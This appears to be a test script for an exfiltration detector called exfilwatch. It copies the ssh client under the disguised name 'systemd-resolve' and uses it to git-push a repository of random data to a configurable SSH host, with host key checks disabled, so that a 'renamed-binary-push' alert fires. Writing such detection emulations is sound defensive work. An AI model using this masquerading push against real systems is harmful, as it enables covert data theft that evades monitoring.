#!/bin/sh
# Emulates scenario ssh-renamed-client (examples/scenarios/ssh-renamed-client.yaml):
# git push over SSH through a renamed ssh client (GIT_SSH pointing at a copied binary).
#
# Safe version: a small random repository; the renamed client connects to EMU_GIT_SSH_URL, which fails
# after the connection attempt unless you run an SSH git server there. exfilwatch judges the push when the
# renamed client starts `git-receive-pack`.
#
# Image: alpine/git:2.47.2
# Expected alert: renamed-binary-push, severity medium
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need git ssh head
work="$EMU_WORKDIR/ssh-renamed-client"
rm -rf "$work"
mkdir -p "$work/.x"
cp "$(command -v ssh)" "$work/.x/systemd-resolve"
emu_git_init "$work/i"
head -c 3145728 /dev/urandom >"$work/i/i.bin"
git -C "$work/i" add -A
git -C "$work/i" commit -qm i
emu_check_target "$EMU_GIT_SSH_URL"
GIT_SSH_COMMAND="$work/.x/systemd-resolve -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=10" \
  git -C "$work/i" push "$EMU_GIT_SSH_URL" HEAD:refs/heads/main ||
  emu_log "push over SSH did not complete (expected without an SSH git server); the attempt is what exfilwatch judges"
rm -rf "$work"
emu_expect renamed-binary-push medium
